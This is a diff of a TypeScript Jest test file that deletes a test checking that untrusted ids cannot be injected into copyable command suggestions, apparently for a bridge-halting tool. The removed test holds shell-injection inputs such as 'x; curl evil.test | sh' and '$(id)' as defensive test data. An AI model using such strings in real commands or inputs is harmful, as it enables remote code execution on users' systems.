@@ -291,30 +291,3 @@ test('commands have their values; what nobody knows stays in <…>', () => {
   ])
   expect(Object.keys(causeCatalogue).length).toBeGreaterThan(40)
 })
-
-test.each(['x; curl evil.test | sh', '$(id)', '`id`', "a'b", '-rf', '--all', 'a b', 'a\nb', ''])(
-  'nothing of a stranger’s id gets into a command that people copy: %s',
-  (id) => {
-    for (const code of Object.keys(causeCatalogue) as (keyof typeof causeCatalogue)[]) {
-      const names = [
-        'scope',
-        'chain',
-        'node',
-        'lane',
-        'address',
-        'other lane',
-        'stream',
-        'number',
-        'id',
-        'workflow',
-        'kind',
-        'party',
-        'nonce',
-      ]
-      const values = Object.fromEntries(names.filter((name) => name !== 'scope').map((name) => [name, id]))
-      expect(commandsOf(code, values)).toEqual(commandsOf(code, {}))
-    }
-    expect(commandsOf('HALTED', { scope: `--bridge ${id}; id` })).toEqual(commandsOf('HALTED', {}))
-    expect(commandsOf('HALTED', { scope: '--source ethereum --target bsc' })[1]).toContain('unhalt --source ethereum --target bsc --reason')
-  },
-)
